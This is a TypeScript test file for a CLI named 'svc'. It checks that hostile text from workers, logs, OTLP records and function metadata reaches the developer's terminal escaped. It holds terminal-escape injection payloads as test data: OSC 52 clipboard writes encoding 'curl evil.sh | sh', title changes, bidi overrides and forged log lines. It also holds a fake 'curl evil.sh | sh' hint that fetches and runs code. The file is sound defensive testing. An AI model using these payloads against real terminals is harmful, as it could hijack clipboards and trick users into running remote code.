/**
 * Terminal-escape injection (issue 16 item 8): a worker's output, its log records, an OTLP
 * `service.name` sent on a real `/otel` socket, a function's description, error message and result
 * all reach a developer's terminal — `svc` itself, `svc logs`, `svc trigger`, `svc functions`. None
 * may carry an escape sequence (OSC 52 clipboard writes, OSC 0 title changes, CSI, 8-bit C1) or a
 * bidi override to the terminal, nor start a line that passes for another source's: the bytes
 * printed hold no control characters but the CLI's own SGR colours (forced on through the pipe).
 */
import assert from 'node:assert/strict'
import { spawn, type ChildProcess } from 'node:child_process'
import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import WebSocket from 'ws'
import { cliEnv, runSvc } from './support/cli.ts'
import { SVC_BIN, tempProject } from './support/processes.ts'
import { waitForMatch } from './support/wait.ts'

/** What a terminal may act on, besides TAB and LF (which end our lines). */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
/** The colours the CLI paints (SGR), the only escape sequences allowed. */
// eslint-disable-next-line no-control-regex
const OUR_SGR = /\u001b\[[0-9;]*m/g
/** A line that passes for the engine's own error line. */
const FORGED = /^\d\d:\d\d:\d\d\.\d{3} engine ERROR forged/m

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'
const TITLE = '\u001b]0;pwned\u0007'
const HOSTILE_SERVICE = `evil${TITLE}\r\n12:00:00.000 engine ERROR forged-by-service-name`

let dir = ''
let svc: ChildProcess | undefined
let output = ''
let engineUrl = ''

/** Fails with the offending text unless `text` holds only our colours and no forged line. */
function assertSafe(text: string, what: string): void {
  const plain = text.replace(OUR_SGR, '')
  const bad = CONTROL.exec(plain)
  assert.equal(bad, null, `${what} printed U+${bad?.[0].charCodeAt(0).toString(16).padStart(4, '0')} raw:\n${JSON.stringify(text)}`)
  assert.doesNotMatch(plain, FORGED, `${what} printed a forged line:\n${plain}`)
}

/** Waits until svc's output matches `pattern`; gives up at once when svc exits. */
const printed = (pattern: RegExp, what: string) =>
  waitForMatch(() => output, pattern, what, { stopIf: () => svc?.exitCode !== null && `svc exited with code ${svc?.exitCode}` })

before(async () => {
  dir = await tempProject('  - name: hostile\n    worker_path: ./workers/hostile\n')
  mkdirSync(join(dir, 'workers', 'hostile'), { recursive: true })
  writeFileSync(join(dir, 'workers', 'hostile', 'svc.worker.yaml'), 'name: hostile\nscripts:\n  start: node index.mjs\n')
  // A worker that attacks through everything it controls: its output lines, its log records (with
  // a service name of its choosing), a function description, an error message and a result.
  writeFileSync(
    join(dir, 'workers', 'hostile', 'index.mjs'),
    `import { registerWorker, Logger } from ${JSON.stringify(import.meta.resolve('svc-sdk'))}
const svc = registerWorker()
svc.registerFunction('hostile::fail', () => {
  throw Object.assign(new Error(${JSON.stringify(`boom ${OSC52}\r\nHint: run curl evil.sh | sh`)}), { code: 'E_HOSTILE' })
}, { description: ${JSON.stringify(`reads ${TITLE} \u202eexe.txt`)} })
svc.registerFunction('hostile::echo', () => ({ text: ${JSON.stringify(`${OSC52} \u202e \u009b2J \u007f`)} }))
process.stdout.write(${JSON.stringify(`osc52 ${OSC52} end\n`)})
process.stdout.write(${JSON.stringify(`title ${TITLE} end\n`)})
process.stderr.write(${JSON.stringify('bidi \u202eexe.txt \u009b2J end\n')})
new Logger(undefined, ${JSON.stringify(`logger${TITLE}`)}).info(${JSON.stringify('first\n12:00:00.000 engine ERROR forged-by-lf')})
console.log('hostile ready')
`,
  )
  // Colours forced on through the pipe, so the test sees our SGR codes next to the escaped text.
  const child = spawn(process.execPath, [SVC_BIN], { cwd: dir, env: cliEnv({ FORCE_COLOR: '1' }), stdio: ['ignore', 'pipe', 'pipe'] })
  svc = child
  child.stdout.on('data', (d) => (output += d))
  child.stderr.on('data', (d) => (output += d))
  await printed(/^ {2}engine {4}ws:\/\/\S+$/m, 'the banner')
  engineUrl = /^ {2}engine {4}(ws:\/\/\S+)$/m.exec(output)![1]!
  await printed(/hostile\S* \S*INFO\S* hostile ready/, 'the worker')
})

after(async () => {
  if (svc && svc.exitCode === null) {
    svc.kill('SIGTERM')
    await new Promise((resolve) => svc!.once('exit', resolve))
  }
  rmSync(dir, { recursive: true, force: true })
})

describe('text from outside on the terminal (issue 16 item 8)', () => {
  it('svc shows worker output, SDK log records and an OTLP record with a hostile service.name escaped, each line under its real source', { timeout: 90_000 }, async () => {
    // An OTLP log record on a real /otel socket: hostile service.name, body with CR, LF and OSC 52.
    const socket = new WebSocket(`${engineUrl}/otel`)
    await new Promise((resolve, reject) => socket.once('open', resolve).once('error', reject))
    const logs = {
      resourceLogs: [
        {
          resource: { attributes: [{ key: 'service.name', value: { stringValue: HOSTILE_SERVICE } }] },
          scopeLogs: [{ logRecords: [{ timeUnixNano: String(BigInt(Date.now()) * 1_000_000n), severityNumber: 9, body: { stringValue: `otel-body ${OSC52}\rover\n12:00:00.000 engine ERROR forged-by-otel-body` } }] }],
        },
      ],
    }
    socket.send(Buffer.concat([Buffer.from('LOGS'), Buffer.from(JSON.stringify(logs))]))
    await printed(/forged-by-otel-body/, 'the OTLP record')
    await printed(/forged-by-lf/, 'the SDK log record')
    await printed(/title .* end/, 'the title line')
    await printed(/bidi .* end/, 'the stderr line')
    socket.close()
    assertSafe(output, 'svc')
    // Shown, not obeyed, and not lost.
    const plain = output.replace(OUR_SGR, '')
    assert.match(plain, /INFO osc52 \\x1b\]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 end/)
    assert.match(plain, /evil\\x1b\]0;pwned\\x07\\r\\n12:00:00\.000 engine ERROR forged-by-service-name INFO otel-body/)
    assert.match(plain, /^\d\d:\d\d:\d\d\.\d{3} evil\\x1b\]0;pwned\\x07\\r\\n12:00:00\.000 engine ERROR forged-by-service-name INFO 12:00:00\.000 engine ERROR forged-by-otel-body/m)
    assert.match(plain, /WARN bidi \\u202eexe\.txt \\x9b2J end/)
  })

  it('svc logs prints the stored records escaped', { timeout: 60_000 }, async () => {
    const result = await runSvc(['logs', '-n', '500'], { cwd: dir, env: cliEnv({ SVC_URL: engineUrl, FORCE_COLOR: '1' }) })
    assert.equal(result.code, 0, result.stderr)
    assert.match(result.stdout, /forged-by-otel-body/)
    assert.match(result.stdout, /forged-by-lf/)
    assertSafe(result.stdout + result.stderr, 'svc logs')
  })

  it('svc trigger prints a hostile error message and result escaped; no forged Hint line', { timeout: 60_000 }, async () => {
    const failed = await runSvc(['trigger', 'hostile::fail'], { cwd: dir, env: cliEnv({ SVC_URL: engineUrl }) })
    assert.equal(failed.code, 1, failed.stderr)
    assertSafe(failed.stderr, 'svc trigger (error)')
    assert.doesNotMatch(failed.stderr, /^Hint: run curl/m)
    assert.match(failed.stderr, /^Error: E_HOSTILE: boom \\x1b\]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\n {2}Hint: run curl evil\.sh \| sh\n/)
    const echoed = await runSvc(['trigger', 'hostile::echo'], { cwd: dir, env: cliEnv({ SVC_URL: engineUrl }) })
    assert.equal(echoed.code, 0, echoed.stderr)
    assertSafe(echoed.stdout, 'svc trigger (result)')
    // Still the same JSON value.
    assert.deepEqual(JSON.parse(echoed.stdout), { text: `${OSC52} \u202e \u009b2J \u007f` })
    const json = await runSvc(['trigger', 'hostile::echo', '--json'], { cwd: dir, env: cliEnv({ SVC_URL: engineUrl }) })
    assertSafe(json.stdout, 'svc trigger --json')
    assert.equal(JSON.parse(json.stdout).result.text, `${OSC52} \u202e \u009b2J \u007f`)
  })

  it('svc functions prints a hostile description escaped, in the table and in --json', { timeout: 60_000 }, async () => {
    const table = await runSvc(['functions', '-w', 'hostile'], { cwd: dir, env: cliEnv({ SVC_URL: engineUrl }) })
    assert.equal(table.code, 0, table.stderr)
    assert.match(table.stdout, /hostile::fail .*reads \\x1b\]0;pwned\\x07 \\u202eexe\.txt/)
    assertSafe(table.stdout, 'svc functions')
    const json = await runSvc(['functions', '--json', '-w', 'hostile'], { cwd: dir, env: cliEnv({ SVC_URL: engineUrl }) })
    assertSafe(json.stdout, 'svc functions --json')
    const described = (JSON.parse(json.stdout) as { functions: Array<{ function_id: string; description: string | null }> }).functions.find((f) => f.function_id === 'hostile::fail')
    assert.equal(described?.description, `reads ${TITLE} \u202eexe.txt`)
  })
})
